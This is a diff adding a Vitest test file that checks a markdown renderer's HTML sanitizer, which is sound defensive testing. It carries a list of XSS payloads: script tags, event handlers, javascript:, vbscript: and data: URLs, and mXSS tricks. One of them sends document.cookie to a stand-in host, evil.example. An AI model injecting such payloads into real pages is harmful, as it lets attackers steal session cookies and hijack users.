@@ -1,0 +1,167 @@
+import { describe, expect, it } from 'vitest';
+import { markdownToText, renderMarkdown } from '../../../../src/lib/server/markdown/markdown.ts';
+
+const payloads: [string, string][] = [
+  ['script tag', '<script>alert(1)</script>'],
+  ['script tag split over lines', 'Hello\n\n<script>\nfetch("https://evil.example/?c=" + document.cookie)\n</script>'],
+  ['img onerror', '<img src="x" onerror="alert(1)">'],
+  ['img onerror, unquoted and unclosed', '<img src=x onerror=alert(1)//'],
+  ['svg onload', '<svg onload=alert(1)>'],
+  ['javascript: link', '<a href="javascript:alert(1)">x</a>'],
+  ['mixed-case JaVaScRiPt: link', '<a href="JaVaScRiPt:alert(1)">x</a>'],
+  ['entity-encoded &#106;avascript: link', '<a href="&#106;avascript:alert(1)">x</a>'],
+  ['tab inside java\\tscript:', '<a href="java\tscript:alert(1)">x</a>'],
+  ['data: URL link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
+  ['data: URL image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
+  ['iframe', '<iframe src="https://evil.example"></iframe>'],
+  ['object', '<object data="evil.swf"></object>'],
+  ['embed', '<embed src="evil.swf">'],
+  ['style attribute with expression()', '<p style="width: expression(alert(1))">x</p>'],
+  ['style element', '<style>body { background: url("javascript:alert(1)") }</style>'],
+  ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
+  ['markdown link to javascript:', '[x](javascript:alert(1))'],
+  ['markdown link to encoded javascript:', '[x](&#x6A;avascript:alert(1))'],
+  ['markdown reference link to javascript:', '[x][r]\n\n[r]: javascript:alert(1)'],
+  ['markdown image with onerror in the URL', '![x](https://example.com/a.png" onerror="alert(1))'],
+  ['markdown image with onerror in the alt text', '![x" onerror="alert(1)](https://example.com/a.png)'],
+  ['markdown image with javascript: src', '![x](javascript:alert(1))'],
+  ['form with action', '<form action="https://evil.example"><input type="submit"></form>'],
+  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
+  ['base href', '<base href="https://evil.example/">'],
+  ['onclick on an allowed tag', '<p onclick="alert(1)">x</p>'],
+  ['onmouseover on an allowed link', '<a href="https://example.com" onmouseover="alert(1)">x</a>'],
+  ['details ontoggle', '<details open ontoggle="alert(1)">x</details>'],
+  ['input autofocus onfocus', '<input type="text" onfocus="alert(1)" autofocus>'],
+  ['mXSS through math/style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
+];
+
+interface Tag { name: string; attrs: [string, string][] }
+
+/**
+ * The markup of the output: every real tag and its attributes. The sanitizer escapes text ("<" becomes
+ * "&lt;") and quotes every attribute value (a '"' inside becomes "&quot;"), so a payload left as text,
+ * or sitting inside an alt text, is not markup and cannot run.
+ */
+function markup(html: string): Tag[] {
+  return [...html.matchAll(/<([a-z0-9]+)([^>]*)>/gi)].map((m) => ({
+    name: m[1]!.toLowerCase(),
+    attrs: [...m[2]!.matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)].map((a) => [a[1]!.toLowerCase(), a[2] ?? ''] as [string, string]),
+  }));
+}
+
+const decode = (v: string): string =>
+  v.replace(/&#x([0-9a-f]+);?/gi, (_, h: string) => String.fromCodePoint(parseInt(h, 16)))
+    .replace(/&#(\d+);?/g, (_, d: string) => String.fromCodePoint(Number(d)))
+    .replace(/&colon;/gi, ':').replace(/&amp;/g, '&').replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
+
+const forbiddenTags = ['script', 'iframe', 'object', 'embed', 'form', 'meta', 'base', 'style', 'svg', 'math', 'details'];
+const forbiddenSchemes = ['javascript:', 'vbscript:', 'data:'];
+
+describe('renderMarkdown removes anything executable', () => {
+  it.each(payloads)('%s', (_name, source) => {
+    const html = renderMarkdown(source);
+    expect(html.toLowerCase()).not.toMatch(/<(script|iframe|object|embed|form|meta|base|style|svg)\b/);
+    for (const tag of markup(html)) {
+      expect(forbiddenTags, html).not.toContain(tag.name);
+      for (const [attr, value] of tag.attrs) {
+        expect(attr, `event handler or style on <${tag.name}> in ${html}`).not.toMatch(/^on|^style$/);
+        for (const scheme of forbiddenSchemes) expect(decode(value), html).not.toContain(scheme);
+      }
+    }
+  });
+
+  it.each(payloads)('%s: no tag outside the allowed list', (_name, source) => {
+    const allowed = new Set(['h2', 'h3', 'h4', 'h5', 'h6', 'p', 'br', 'hr', 'blockquote', 'pre', 'code', 'em', 'strong', 'del', 's',
+      'ul', 'ol', 'li', 'a', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'img', 'input', 'sup', 'sub', 'kbd']);
+    const names = [...renderMarkdown(source).matchAll(/<\/?([a-z0-9]+)/gi)].map((m) => m[1]!.toLowerCase());
+    expect(names.filter((n) => !allowed.has(n))).toEqual([]);
+  });
+
+  it('a payload that markdown leaves as text is escaped, so it never becomes a tag', () => {
+    expect(renderMarkdown('<img src=x onerror=alert(1)//')).toBe('<p>&lt;img src=x onerror=alert(1)//</p>\n');
+  });
+
+  it('harmless text around a payload survives', () => {
+    expect(renderMarkdown('Before <script>alert(1)</script> after')).toContain('Before');
+    expect(renderMarkdown('Before <script>alert(1)</script> after')).toContain('after');
+  });
+
+  it('code spans show markup as text instead of running it', () => {
+    expect(renderMarkdown('`<script>alert(1)</script>`')).toBe('<p><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></p>\n');
+  });
+});
+
+describe('renderMarkdown keeps ordinary markdown', () => {
+  it('bold and emphasis', () => {
+    expect(renderMarkdown('**bold** and *em*')).toBe('<p><strong>bold</strong> and <em>em</em></p>\n');
+  });
+
+  it('links keep https hrefs and get rel="noopener noreferrer nofollow"', () => {
+    expect(renderMarkdown('[docs](https://docs.example.com/a?b=1)')).toBe(
+      '<p><a href="https://docs.example.com/a?b=1" rel="noopener noreferrer nofollow">docs</a></p>\n',
+    );
+  });
+
+  it.each([
+    ['mailto link', '[mail](mailto:help@example.com)', 'href="mailto:help@example.com"'],
+    ['http link', '[site](http://example.com)', 'href="http://example.com"'],
+  ])('%s is kept', (_name, source, expected) => {
+    expect(renderMarkdown(source)).toContain(expected);
+  });
+
+  it('an author cannot weaken rel on a raw link', () => {
+    const html = renderMarkdown('<a href="https://example.com" rel="opener">x</a>');
+    expect(html).toContain('rel="noopener noreferrer nofollow"');
+    expect(html).not.toContain('rel="opener"');
+  });
+
+  it('lists', () => {
+    expect(renderMarkdown('- one\n- two\n\n1. first\n2. second')).toBe(
+      '<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n<ol>\n<li>first</li>\n<li>second</li>\n</ol>\n',
+    );
+  });
+
+  it('h1 is demoted to h2; lower headings stay', () => {
+    expect(renderMarkdown('# Title\n\n### Sub')).toBe('<h2>Title</h2>\n<h3>Sub</h3>\n');
+  });
+
+  it('task list items become disabled checkboxes', () => {
+    const html = renderMarkdown('- [x] done\n- [ ] todo');
+    const inputs = html.match(/<input[^>]*>/g) ?? [];
+    expect(inputs).toHaveLength(2);
+    for (const input of inputs) {
+      expect(input).toContain('type="checkbox"');
+      expect(input).toContain('disabled');
+    }
+    expect(inputs[0]).toContain('checked');
+    expect(inputs[1]).not.toContain('checked');
+  });
+
+  it('https images are kept; http images lose their src', () => {
+    expect(renderMarkdown('![graph](https://example.com/g.png)')).toContain('<img src="https://example.com/g.png" alt="graph" />');
+    expect(renderMarkdown('![graph](http://example.com/g.png)')).not.toContain('src=');
+  });
+
+  it('tables and line breaks', () => {
+    const html = renderMarkdown('| a | b |\n|:--|--:|\n| 1 | 2 |\n\nline one\nline two');
+    expect(html).toContain('<table>');
+    expect(html).toContain('<td align="right">2</td>');
+    expect(html).toContain('line one<br />line two');
+  });
+
+  it('the same source renders the same way twice (cache)', () => {
+    const src = '**cached** <img src=x onerror=alert(1)>';
+    expect(renderMarkdown(src)).toBe(renderMarkdown(src));
+    expect(renderMarkdown(src)).not.toContain('onerror');
+  });
+});
+
+describe('markdownToText', () => {
+  it('strips markup and scripts, leaving readable plain text', () => {
+    expect(markdownToText('# Update\n\n**API** is <em>back</em>.<script>alert(1)</script>')).toBe('Update\nAPI is back.');
+  });
+
+  it('plain text does not contain HTML entities', () => {
+    expect(markdownToText('Search & indexing < 5 min')).toBe('Search & indexing < 5 min');
+  });
+});
